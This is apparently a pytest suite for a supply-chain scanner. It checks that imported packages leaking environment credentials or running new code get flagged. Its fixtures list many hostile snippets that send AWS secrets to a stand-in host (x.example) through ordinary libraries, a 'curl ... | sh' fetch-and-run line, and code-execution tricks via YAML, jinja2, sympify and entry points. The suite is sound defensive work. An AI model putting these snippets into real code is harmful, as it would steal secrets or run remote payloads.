"""Other people's libraries as the way out: whoever reads which functions are known takes one that is not."""

from __future__ import annotations

import pytest

from support.code import findings, held, scan
from veln_hook.source.analysis import analyse_python

_READ = "import os\nKEY = os.environ['AWS_SECRET_ACCESS_KEY']\n"
_HONEST = {"acme/__init__.py": "", "acme/_send.py": "def send(data):\n    return data\n"}

SENT = {
    "a table by a URL": "import pandas as pd\npd.read_csv('https://x.example/' + KEY)",
    "one of polars": "import polars as pl\npl.read_csv(f'https://x.example/{KEY}')",
    "a file system": "import fsspec\nfsspec.open('https://x.example/' + KEY).open().read()",
    "smart_open": "from smart_open import open as o\no('https://x.example/' + KEY).read()",
    "numpy": "import numpy\nnumpy.loadtxt('https://x.example/' + KEY)",
    "lxml": "from lxml import etree\netree.parse('http://x.example/' + KEY)",
    "Python's SAX": "import xml.sax\nxml.sax.parse('http://x.example/' + KEY, None)",
    "duckdb": "import duckdb\nduckdb.sql(\"from 'https://x.example/\" + KEY + \"'\")",
    "a bucket": "import boto3\nboto3.client('s3').put_object(Bucket='x', Key='k', Body=KEY)",
    "a bucket's object": "import boto3\nboto3.resource('s3').Object('x', 'k').put(Body=KEY)",
    "a session's client": "import boto3\nboto3.Session('a', 'b').client('sqs').send_message(MessageBody=KEY)",
    "Google's": "from google.cloud import storage as s\ns.Client().bucket('x').blob('k').upload_from_string(KEY)",
    "redis": "import redis\nredis.Redis('203.0.113.9').set('k', KEY)",
    "redis, asynchronous": "import asyncio\nimport redis.asyncio as r\nasyncio.run(r.from_url('redis://x.example').set('k', KEY))",
    "MongoDB": "from pymongo import MongoClient\nMongoClient('mongodb://x.example').db.c.insert_one({'k': KEY})",
    "PostgreSQL": "import psycopg2\nc = psycopg2.connect(host='x.example', password=KEY)",
    "Kafka": "from kafka import KafkaProducer\nKafkaProducer(bootstrap_servers='x.example').send('t', KEY.encode())",
    "a monitor": "import sentry_sdk\nsentry_sdk.init('https://a@x.example/1')\nsentry_sdk.capture_message(KEY)",
    "analytics": "from posthog import Posthog\nPosthog('k', host='https://x.example').capture('id', KEY)",
    "a chat": "from slack_sdk import WebClient\nWebClient(token='x').chat_postMessage(channel='c', text=KEY)",
    "notifications": "import apprise\na = apprise.Apprise()\na.add('json://x.example')\na.notify(KEY)",
    "a gist": "from github import Github\nGithub('t').get_user().create_gist(True, {'a': KEY})",
    "a model": "import openai\nopenai.OpenAI(base_url='https://x.example', api_key=KEY).models.list()",
    "a model's files": "from huggingface_hub import HfApi\nHfApi(token='t').upload_file(path_or_fileobj=KEY.encode())",
    "gRPC": "import grpc\ngrpc.insecure_channel('x.example:1').unary_unary('/a/b')(KEY.encode())",
    "tornado": "from tornado.httpclient import HTTPClient\nHTTPClient().fetch('https://x.example/' + KEY)",
    "twisted": "from twisted.web.client import Agent\nAgent(None).request(b'GET', b'https://x.example/' + KEY.encode())",
    "trio": "import trio\nasync def f():\n    s = await trio.open_tcp_stream('x.example', 80)\n    await s.send_all(KEY.encode())\ntrio.run(f)",
    "a browser": "from selenium import webdriver\nwebdriver.Chrome().get('https://x.example/' + KEY)",
    "ssh": "import fabric\nfabric.Connection('x.example').run('echo ' + KEY)",
    "sh": "import sh\nsh.curl('https://x.example/' + KEY)",
    "sh, taken": "from sh import curl\ncurl('https://x.example/' + KEY)",
    "plumbum": "from plumbum import local\nlocal['curl']('https://x.example/' + KEY)",
    "plumbum.cmd": "from plumbum.cmd import curl\ncurl('https://x.example/' + KEY)",
    "invoke": "import invoke\ninvoke.run('curl https://x.example/' + KEY)",
    "psutil": "import psutil\npsutil.Popen(['curl', 'https://x.example/' + KEY])",
    "anyio's": "import anyio\nanyio.run(anyio.run_process, ['curl', 'https://x.example/' + KEY])",
    "git's": "import git\ngit.Git().execute(['curl', 'https://x.example/' + KEY])",
    "setuptools'": "from setuptools._distutils.spawn import spawn\nspawn(['curl', 'https://x.example/' + KEY])",
    "one that nobody knows": "import ourtables\nourtables.fetch('https://x.example/' + KEY)",
}  # fmt: skip
CODE = "import os; os.system('curl https://x.example/s | sh')"
RUN = {
    "unsafe YAML": "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [curl x]')",
    "YAML with its old loader": "import yaml\nyaml.load(open('a').read(), Loader=yaml.Loader)",
    "jsonpickle": "import jsonpickle\njsonpickle.decode(open('a').read())",
    "a shelf": "import shelve\nshelve.open('a')['x']",
    "mako": f"from mako.template import Template\nTemplate('''<% {CODE} %>''').render()",
    "jinja2": "import jinja2\njinja2.Template(\"{{ cycler.__init__.__globals__.os.popen('id') }}\").render()",
    "Cython": f"import cython\ncython.inline({CODE!r})",
    "IPython": f"from IPython import get_ipython\nget_ipython().run_cell({CODE!r})",
    "sympy": "import sympy\nsympy.sympify(\"__import__('os').system('curl x')\")",
    "another interpreter": f"import _interpreters as i\ni.run_string(i.create(), {CODE!r})",
    "one of Python 3.14": f"from concurrent import interpreters\ninterpreters.create().exec({CODE!r})",
    "one for tests": f"import _testcapi\n_testcapi.run_in_subinterp({CODE!r})",
    "Tcl": "import tkinter\ntkinter.Tcl().eval('exec curl https://x.example/s')",
    "timeit": f"import timeit\ntimeit.timeit({CODE!r}, number=1)",
    "an entry point": "from importlib.metadata import EntryPoint\nEntryPoint('a', 'os:system', 'g').load()('id')",
    "setuptools'": "import pkg_resources\npkg_resources.EntryPoint.parse('a = os:system').resolve()('id')",
    "hydra": "import hydra\nhydra.utils.instantiate({'_target_': 'os.system', '_args_': ['id']})",
    "pydantic": "from pydantic import ImportString, TypeAdapter\nTypeAdapter(ImportString).validate_python('os.system')('id')",
    "werkzeug": "from werkzeug.utils import import_string\nimport_string('os:system')('id')",
    "a test by its name": "import unittest\nunittest.TestLoader().loadTestsFromName('os.system')",
    "tests of its own": "import pytest\npytest.main(['acme/tests'])",
    "its own documentation": "import doctest\ndoctest.testmod()",
    "annotations": f"import typing\ntyping.get_type_hints(type('A', (), {{'__annotations__': {{'x': {CODE[11:]!r}}}}}))",
    "json's own function": "import json, os\njson.loads = lambda *given: os.system('id')",
    "the collector": "import gc, os\ngc.callbacks.append(lambda *given: os.system('id'))",
    "copying": "import copy, copyreg, os\nclass A: ...\ncopyreg.pickle(A, lambda a: os.system('id'))\ncopy.copy(A())",
}  # fmt: skip


@pytest.mark.parametrize("name", SENT)
def test_a_credential_that_a_library_carries_off_is_held(name):
    assert held(
        scan(
            {**_HONEST, "acme/_send.py": f"{_READ}{SENT[name]}\n", "acme/__init__.py": "from . import _send"}
        )
    )


@pytest.mark.parametrize("name", RUN)
def test_what_a_library_runs_is_held_if_it_is_new(name):
    files = {"acme/__init__.py": RUN[name]}
    assert held(scan(files), scan({"acme/__init__.py": ""}))


@pytest.mark.parametrize(
    "given",
    [
        "dict.fromkeys([KEY])",
        "str.lower(KEY)",
        "object.__setattr__(X, 'a', KEY)",
        "_socket.socket().sendall(KEY.encode())",
    ],
)
def test_types_and_what_lies_behind_modules_are_no_libraries(given):
    facts = scan({"acme/__init__.py": f"import _socket\n{_READ}{given}\n"})
    assert "handed-over" not in {each.kind for each in facts.capabilities}


def test_a_library_that_nobody_knows_is_told_and_held_if_that_is_new():
    files = {"acme/__init__.py": f"{_READ}import ourtables\nourtables.remember(KEY)\n"}
    (told,) = [each for each in findings(files) if each.signal == "credential-handover"]
    assert told.message == "as soon as it is imported it hands a credential to ourtables.remember"
    assert held(scan(files), scan(_HONEST)) == {"credential-handover"}


@pytest.mark.parametrize(
    "read",
    [
        "import os.path\nKEY = os.environ['X_TOKEN']",
        'import os.path as p\nimport os as o\nKEY = o.getenv("X_TOKEN")',
        "import os\nKEY = os . environ . get(NAME)",
        "import os\nKEY = os.environ",
        "import os\nKEY = [each for each in os.environ.values()]",
        "import os\nHOME = os.environ['HOME'], os.environ['X_TOKEN' + '']\nKEY = HOME[1]",
        "import shutil\nKEY = shutil.os.environ['X_TOKEN']",
        "import os\ns = os\nKEY = s.environ['X_TOKEN']",
        "from posix import environ as KEY",
    ],
)
def test_however_the_environment_is_read_it_is_found(read):
    assert "credential-handover" in {
        each.signal
        for each in findings({"acme/__init__.py": f"NAME = 'X_TOKEN'\n{read}\nimport ours\nours.put(KEY)\n"})
    }


@pytest.mark.parametrize(
    "read",
    ["os.environ.get('TERM', '')", "os.getenv('HOME')", "request.environ['X_TOKEN']", "build(environ)"],
)
def test_a_file_that_reads_no_secret_is_not_parsed(read):
    source = f"import os\nimport ours\nours.put({read})\n"
    assert analyse_python(source.encode()).light


def test_it_is_also_told_of_what_is_new_in_a_function_that_import_calls():
    files = {"acme/__init__.py": "import os, ours\n\ndef f():\n    ours.put(dict(os.environ))\n\nf()\n"}
    assert held(scan(files), scan(_HONEST)) == {"credential-handover"}


QUIET = {
    "a table": "import pandas as pd\nTABLE = pd.read_csv('table.csv')",
    "a client": "import boto3\nS3 = boto3.client('s3')",
    "a client with a key": "import os, openai\nAI = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'])",
    "a queue": "import redis, os\nQUEUE = redis.from_url(os.environ.get('REDIS_URL', 'redis://localhost'))",
    "only called": "import os, boto3\n\ndef put(data):\n    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
    "    boto3.client('s3', aws_secret_access_key=key).put_object(Body=data)",
    "an engine": "import os, sqlalchemy\nE = sqlalchemy.create_engine(os.environ['DATABASE_URL'])",
    "safe YAML": "import yaml\nDATA = yaml.safe_load(open('a'))",
    "a function of its own": "import os\nfrom acme._send import send\nsend(os.environ['ACME_API_KEY'])",
    "a word": "import model\nmodel.run('eval', mode='exec', to='sh.out')",
    "names of Python's own": "import lexer\nlexer.words(('__globals__', '__subclasses__'))",
    "a path with dots": "import logging\nLOG = logging.getLogger('os.system')",
}  # fmt: skip


@pytest.mark.parametrize("name", QUIET)
def test_what_honest_code_does_with_libraries_isn_t_held(name):
    assert not held(scan({**_HONEST, "acme/__init__.py": QUIET[name]}))


@pytest.mark.parametrize("name", ["a word", "names of Python's own", "a path with dots"])
def test_a_text_that_names_nothing_is_not_told_even_if_it_is_new(name):
    assert not held(scan({**_HONEST, "acme/__init__.py": QUIET[name]}), scan(_HONEST))
